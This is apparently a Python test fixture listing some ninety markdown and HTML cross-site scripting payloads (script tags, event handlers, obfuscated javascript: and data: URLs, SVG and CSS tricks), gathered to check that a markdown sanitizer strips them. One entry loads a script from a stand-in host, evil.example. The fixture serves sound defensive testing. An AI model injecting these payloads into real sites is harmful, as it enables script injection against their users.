"""Markdown sources that try to get script, styles or foreign requests into a rendered post.

Collected from the OWASP XSS filter evasion cheat sheet, the markdown-it and DOMPurify test
suites and well-known mutation-XSS reports, written as people would type them into a post.
None of them may produce a working script, handler, foreign URL scheme or style in the HTML.
External URLs are avoided on purpose: the browser test counts every request the page makes.
"""

from __future__ import annotations

PAYLOADS: list[str] = [
    # Script elements, plain and broken.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script\n>alert(1)</script\n>",
    "text</p><script>alert(1)</script><p>",
    # Event handlers on many tags.
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    '<img src="x"\nonerror="alert(1)">',
    "<img src=x onerror=\\u0061lert(1)>",
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">hover</div>',
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<a href="https://example.com" onclick="alert(1)">x</a>',
    "*<img src=x onerror=alert(1)>*",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    # SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    # javascript:, vbscript: and data: URLs, plain and obfuscated.
    '<a href="javascript:alert(1)">x</a>',
    '<A HREF="JaVaScRiPt:alert(1)">x</A>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#x73;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1) )",
    "[x](javascript://%0aalert(1))",
    "[x](%6A%61%76%61script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](&#1;javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](\x00javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](ｊａｖａｓｃｒｉｐｔ:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    '[x][r]\n\n[r]: <javascript:alert(1)> "title"',
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    '<img src="jav\tascript:alert(1)">',
    # Autolinks.
    "<javascript:alert(1)>",
    "<JavaScript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    '<https://example.com/"onmouseover="alert(1)>',
    # Quotes breaking out of attributes.
    '[x](https://example.com "\\" onmouseover=\\"alert(1)")',
    '![x](a.png "\\" onerror=\\"alert(1)")',
    '```"><img src=x onerror=alert(1)>\ncode\n```',
    "```js onclick=alert(1)\ncode\n```",
    "``` javascript:alert(1)\ncode\n```",
    # Embedding, forms, redirects.
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<link rel=stylesheet href=javascript:alert(1)>",
    # CSS.
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    # Comments and conditional comments.
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "--><script>alert(1)</script><!--",
    # Unicode tricks.
    "＜script＞alert(1)＜/script＞",
    "[x](https://example.com/\u202egnp.exe)",
    "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    "\ufeff<script>alert(1)</script>",
    # Inside code, where it must stay text.
    "`<script>alert(1)</script>`",
    "    <img src=x onerror=alert(1)>",
]
